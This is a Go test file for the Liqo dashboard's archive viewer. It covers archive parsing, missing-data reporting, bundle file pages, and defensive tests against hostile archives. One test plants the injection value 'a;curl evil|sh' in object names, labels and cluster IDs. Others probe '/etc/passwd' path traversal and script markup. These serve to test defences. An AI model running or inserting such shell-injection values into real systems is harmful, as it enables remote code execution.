// Copyright The Liqo Authors.
// SPDX-License-Identifier: Apache-2.0

package dashboard

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/liqo-go/liqo/api"
	"github.com/liqo-go/liqo/api/scheme"
	"github.com/liqo-go/liqo/bundle"
	"github.com/liqo-go/liqo/internal/seed"
	"github.com/liqo-go/liqo/view"
)

// ofArchive returns the local cluster of an archive with an index and files.
func ofArchive(t testing.TB, index bundle.Index, files map[string]string) *Archive {
	t.Helper()
	index.Format = 1
	text, err := json.Marshal(index)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	compressed := gzip.NewWriter(&out)
	archive := tar.NewWriter(compressed)
	write := func(name, text string) {
		err := archive.WriteHeader(&tar.Header{Name: "liqo-gather/" + name, Typeflag: tar.TypeReg, Size: int64(len(text))})
		if _, failed := io.WriteString(archive, text); errors.Join(err, failed) != nil {
			t.Fatal(err, failed)
		}
	}
	write("index.json", string(text))
	for name, text := range files {
		write(name, text)
	}
	if err := errors.Join(archive.Close(), compressed.Close()); err != nil {
		t.Fatal(err)
	}
	b, err := bundle.Read(&out)
	if err != nil {
		t.Fatal(err)
	}
	return NewArchive(b, b.Index.Clusters[0])
}

// localOnly is an index of one cluster.
func localOnly(missing ...bundle.Missing) bundle.Index {
	return bundle.Index{Time: time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC), Client: "v1",
		Clusters: []bundle.Cluster{{Name: "local", ID: "rome", Namespace: "liqo", Missing: missing}}}
}

// objectsOf returns the files of an archive with the objects of a snapshot.
func objectsOf(t testing.TB, s *view.Snapshot) map[string]string {
	t.Helper()
	out, known := map[string]string{}, scheme.New()
	for _, list := range s.Lists() {
		resource, err := resourceOf(list, known)
		if err != nil {
			t.Fatal(err)
		}
		text, err := json.Marshal(list)
		if err != nil {
			t.Fatal(err)
		}
		out["local/objects/"+resource+".json"] = string(text)
	}
	return out
}

// serveArchive serves an archive and returns the text of a page, and its status.
func serveArchive(t *testing.T, a *Archive) func(path string) (string, int) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := NewOfArchive(a, listener)
	c := serve(t, s)
	return func(path string) (string, int) {
		t.Helper()
		response, body := answer(t, c, s.request(t, http.MethodGet, path))
		return body, response.StatusCode
	}
}

// TestArchiveIsASnapshot: an archive of recorded objects gives the same pages as the objects, except for the line that
// says when it was made.
func TestArchiveIsASnapshot(t *testing.T) {
	s := recorded(t)
	s.Traffic = nil // rates are measured, not gathered
	s.Sort()
	a := ofArchive(t, localOnly(), objectsOf(t, s))
	got := a.Snapshot()
	if !strings.Contains(got.Stale, "2026-11-27 12:00:00 UTC") || len(got.Hidden) > 0 {
		t.Errorf("stale: %q, hidden: %v", got.Stale, got.Hidden)
	}
	got.Stale = ""
	if want := drawn(t, s); drawn(t, got) != want {
		t.Error("the pages differ")
	}
}

// TestArchiveSaysWhatIsMissing: a kind of which there is nothing is hidden, with the reason; of one that is incomplete
// the rest is shown; a kind that is not readable is hidden.
func TestArchiveSaysWhatIsMissing(t *testing.T) {
	files := objectsOf(t, recorded(t))
	delete(files, "local/objects/tenants.authentication.liqo.io.json")
	delete(files, "local/objects/events.json")
	files["local/objects/nodes.json"] = `{"items": 1}`
	files["local/objects/foreignclusters.core.liqo.io.json"] = `{"items": [{}` + strings.Repeat(",{}", mostPeers) + "]}"
	got := ofArchive(t, localOnly(bundle.Missing{What: "tenants.authentication.liqo.io", Why: "forbidden"},
		bundle.Missing{What: "events in namespace liqo", Why: "too late"},
		bundle.Missing{What: "5 of 10 pods", Why: "no room"}), files).Snapshot()
	for kind, why := range map[string]string{"Tenant": "forbidden", "Event": "too late", "Node": "decode nodes",
		"ForeignCluster": "1001 foreignclusters.core.liqo.io"} {
		if !strings.Contains(got.Hidden[kind], why) {
			t.Errorf("%s is hidden because of %q", kind, got.Hidden[kind])
		}
	}
	if len(got.Hidden) != 4 || len(got.ForeignClusters.Items)+len(got.Nodes.Items) > 0 {
		t.Errorf("hidden: %v", got.Hidden)
	}
	if len(got.Pods.Items) == 0 || !strings.Contains(got.Stale, "not have all of: pods.") {
		t.Errorf("%d pods, %q", len(got.Pods.Items), got.Stale)
	}
}

// TestAttackDashboardArchiveRemedies: somebody sends an archive with objects whose names, namespaces, labels, cluster IDs
// and resources are commands of a shell, in the hope that a remedy with one is typed.
//
// Outcome: no command on the pages has one of them, and the pages say how many objects are left out.
func TestAttackDashboardArchiveRemedies(t *testing.T) {
	const attack = "a;curl evil|sh"
	s := recorded(t)
	for _, list := range s.Lists() {
		if meta.LenList(list) == 0 {
			continue
		}
		for _, plant := range []func(view.Object){
			func(o view.Object) { o.SetName(attack) },
			func(o view.Object) { o.SetNamespace(attack) },
			func(o view.Object) { o.SetLabels(map[string]string{api.LabelRemoteClusterID: attack}) },
			func(o view.Object) { o.SetLabels(map[string]string{attack: "x"}) },
		} {
			o := items(list)[0].DeepCopyObject().(view.Object)
			plant(o)
			s.Add(o)
		}
	}
	for _, o := range []view.Object{s.ForeignClusters.Items[0].DeepCopy(), s.Tenants.Items[0].DeepCopy(), s.Identities.Items[0].DeepCopy(),
		s.Slices.Items[0].DeepCopy(), s.VirtualNodes.Items[0].DeepCopy()} {
		id := reflect.ValueOf(o).Elem().FieldByName("Spec")
		for _, field := range []string{"ClusterID", "ProviderClusterID"} {
			if f := id.FieldByName(field); f.IsValid() {
				f.SetString(attack)
			}
		}
		o.SetName("odd")
		s.Add(o)
	}
	hungry := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "hungry"}, Spec: corev1.PodSpec{Containers: []corev1.Container{{
		Resources: corev1.ResourceRequirements{Requests: corev1.ResourceList{attack: resource.MustParse("9")}}}}},
		Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodScheduled, Status: "False", Message: "Insufficient " + attack}}}}
	s.Add(&hungry)
	s.VirtualNodes.Items[0].Spec.ResourceQuota.Hard[attack] = resource.MustParse("1")
	got := ofArchive(t, localOnly(), objectsOf(t, s)).Snapshot()
	for _, want := range []string{"Left out are objects", "5 foreignclusters.core.liqo.io", "4 pods", "5 virtualnodes.offloading.liqo.io"} {
		if !strings.Contains(got.Stale, want) {
			t.Errorf("%q lacks %q", got.Stale, want)
		}
	}
	for _, command := range regexp.MustCompile(`<code>[^<]*|&#39;liqoctl [^<]*`).FindAllString(drawn(t, got), -1) {
		if strings.Contains(command, "curl") {
			t.Error(command)
		}
	}
}

// TestBundlePages: the page Bundle names and links what only an archive has, and pages show files in parts.
func TestBundlePages(t *testing.T) {
	files := map[string]string{"README.md": "# Read me\n", "local/conditions.txt": "all\tis well\n", "remote/events.txt": "none",
		"local/rules/liqo/a/desired.txt": "rule", "local/rules/liqo/a/observed.txt": "rule", "local/rules/liqo/a/diff.txt": "nothing\n",
		"local/rules/liqo/b/diff.txt": "+ rule\n", "local/metrics/liqo/gw.txt": "# HELP x\nliqo_peer_latency_us{cluster_id=\"milan\"} 1234\nother 1\n",
		"local/logs/liqo/a/c.log": strings.Repeat("a line\n", 2*linesOfPage) + "the last line\n"}
	index := localOnly(bundle.Missing{What: "pods", Why: "forbidden"})
	index.Files = []bundle.File{{Path: "local/logs/liqo/a/c.log", Cut: true}}
	page := serveArchive(t, ofArchive(t, index, files))
	text, _ := page("/bundle")
	has(t, strings.Join(strings.Fields(text), " "), `<a href="/bundle" aria-current="page">Bundle</a>`, "<li>pods: forbidden</li>",
		`<a href="/bundle/3/local/logs/liqo/a/c.log">logs/liqo/a/c.log</a> (14014 bytes, cut)`, `<a href="/bundle/1/README.md">`,
		`<tr class="warning"><th scope="row">liqo/b</th><td>differs</td>`, `<tr><th scope="row">liqo/a</th><td>as desired</td>`,
		`<th scope="row">liqo/gw</th><td>liqo_peer_latency_us{cluster_id=&#34;milan&#34;}</td><td>1234</td>`, "!remote")
	if text, _ = page("/"); !strings.Contains(text, `<a href="/bundle">Bundle</a>`) || !strings.Contains(text, "is the state at 2026") {
		t.Errorf("the map is %s", text)
	}
	text, _ = page("/bundle/3/local/logs/liqo/a/c.log")
	has(t, text, "Page 3 of 3, from line 2001 on. The archive has only a part of this file.", "<pre>the last line\n</pre>",
		`<a href="/bundle/2/local/logs/liqo/a/c.log">Page before</a>`, "!Next page")
	if text, _ = page("/bundle/2/local/logs/liqo/a/c.log"); strings.Count(text, "a line\n") != linesOfPage {
		t.Errorf("page 2 is %s", text)
	}
	text, _ = page("/bundle/1/local/conditions.txt")
	has(t, text, "<pre>all    is well\n</pre>", "!First page")
	for _, path := range []string{"/bundle/", "/bundle/0/README.md", "/bundle/2/README.md", "/bundle/01/README.md", "/1/README.md",
		"/bundle/1/remote/events.txt", "/bundle/1/index.json", "/bundle/1/../README.md", "/bundle/1//etc/passwd"} {
		if text, status := page(path); status != http.StatusNotFound && status != http.StatusMovedPermanently && status != http.StatusTemporaryRedirect {
			t.Errorf("%s: %d: %s", path, status, text)
		}
	}
	other, c := start(t, NewSnapshots(recorded(t)))
	if got, text := answer(t, c, other.request(t, http.MethodGet, "/bundle")); got.StatusCode != http.StatusNotFound {
		t.Errorf("a cluster has a page Bundle: %s", text)
	}
}

// TestAttackDashboardArchive: somebody sends an archive with markup in its index, logs, rules and metrics.
//
// Outcome: the pages show it as text.
func TestAttackDashboardArchive(t *testing.T) {
	all := func(text string) string {
		index := localOnly(bundle.Missing{What: text, Why: text}, bundle.Missing{What: "pods", Why: text})
		index.Client = text
		c := &index.Clusters[0]
		c.ID, c.Namespace, c.Liqo, c.Kubernetes = text, text, text, text
		page := serveArchive(t, ofArchive(t, index, map[string]string{"local/logs/a/b/c.log": text + "\n" + strings.Repeat("\n"+text, linesOfPage),
			"local/events.txt": text, "local/rules/a/b/diff.txt": text,
			"local/metrics/a/b.txt": "liqo_peer_latency_us{" + text + "} " + text + "\n"}))
		out := ""
		for _, path := range []string{"/", "/workloads", "/events", "/bundle", "/bundle/1/local/logs/a/b/c.log", "/bundle/2/local/logs/a/b/c.log",
			"/bundle/1/local/events.txt", "/bundle/1/local/rules/a/b/diff.txt", "/bundle/1/local/metrics/a/b.txt"} {
			text, status := page(path)
			if status != http.StatusOK {
				t.Errorf("%s: %d", path, status)
			}
			out += regexp.MustCompile(`\d+ bytes`).ReplaceAllString(text, "")
		}
		return out
	}
	before := all(plain)
	check(t, "an archive", before, all(planted))
	if n := strings.Count(before, plain); n < linesOfPage+20 {
		t.Errorf("only %d texts are shown", n)
	}
}

// TestAttackDashboardOddObjects: somebody sends an archive with objects that no API server would take: fields are
// missing, empty, negative or of another type.
//
// Outcome: each page is drawn, unless the list cannot be decoded and is said to be missing. Usual runs try a sample.
func TestAttackDashboardOddObjects(t *testing.T) {
	s, odd := recorded(t), 0
	chance := seed.Rand(t)
	for i, list := range s.Lists() {
		text, err := json.Marshal(list)
		if err != nil {
			t.Fatal(err)
		}
		var tree any
		if err := json.Unmarshal(text, &tree); err != nil {
			t.Fatal(err)
		}
		each(tree, func(what string) {
			if !*soak && chance.IntN(oneOf) > 0 {
				return
			}
			text, err := json.Marshal(tree)
			if err != nil {
				t.Fatal(err)
			}
			shown := *s
			into := reflect.ValueOf(shown.Lists()[i]).Elem()
			into.SetZero()
			if json.Unmarshal(text, into.Addr().Interface()) != nil {
				return // see TestArchiveSaysWhatIsMissing
			}
			defer func() {
				if failure := recover(); failure != nil {
					t.Errorf("%s: %s: %v", view.KindOf(list), what, failure)
				}
			}()
			drawn(t, &shown)
			odd++
		})
	}
	if odd < 500/oneOf {
		t.Errorf("only %d objects tried", odd)
	}
}

var soak = flag.Bool("soak", false, "try all odd objects, not a sample")

// oneOf is how many odd objects there are for each that is tried in usual runs.
const oneOf = 20

// each changes one value of a tree after the other, calls do, and changes it back.
func each(tree any, do func(what string)) {
	switch tree := tree.(type) {
	case map[string]any:
		for key, was := range tree {
			for _, odd := range []any{nil, "", -1, map[string]any{}, []any{map[string]any{}}} {
				tree[key] = odd
				do(fmt.Sprintf("%s = %v", key, odd))
			}
			delete(tree, key)
			do("without " + key)
			tree[key] = was
			each(was, func(what string) { do(key + "." + what) })
		}
	case []any:
		for _, item := range tree {
			each(item, do)
		}
	}
}

// FuzzArchive: pages of an archive with any content are drawn, and hold no script but their own.
func FuzzArchive(f *testing.F) {
	s, err := Demo()
	if err != nil {
		f.Fatal(err)
	}
	for name, text := range objectsOf(f, s) {
		f.Add(name, []byte(text))
	}
	for _, cpu := range []string{`" 1e-2147483647"`, `"e2147483647"`, `"1","a\\":"1e-2147483647"`, `1e1000`, `"\u0031e2147483647"`} {
		f.Add("local/objects/pods.json", fmt.Appendf(nil, `{"items":[{"metadata":{"name":"web","namespace":"shop"},"spec":{"containers":[`+
			`{"name":"web","resources":{"requests":{"cpu":%s}}}]}}]}`, cpu))
	}
	f.Add("local/metrics/a/b.txt", []byte("liqo_peer_latency_us{<script>} 1"))
	f.Add("local/rules/a/diff.txt", []byte("\r\n\xff\u202e</pre>"))
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		if name == "index.json" || bundle.Path(strings.Split(name, "/")...) != name {
			return // Read takes no such name
		}
		a := ofArchive(t, localOnly(), map[string]string{name: string(content)})
		if text := drawn(t, a.Snapshot()); strings.Count(text, "<script") != strings.Count(text, "<head>") {
			t.Error(text)
		}
		for _, path := range []string{bundlePath, addressOf(1, name)} {
			name, title, data, ok := a.find(path)
			if !ok {
				continue
			}
			text, err := draw("page", &shown{Name: name, Title: title, Data: data, Path: path})
			if err != nil || strings.Count(text, "<script") != 1 {
				t.Errorf("%s: %v: %s", path, err, text)
			}
		}
	})
}
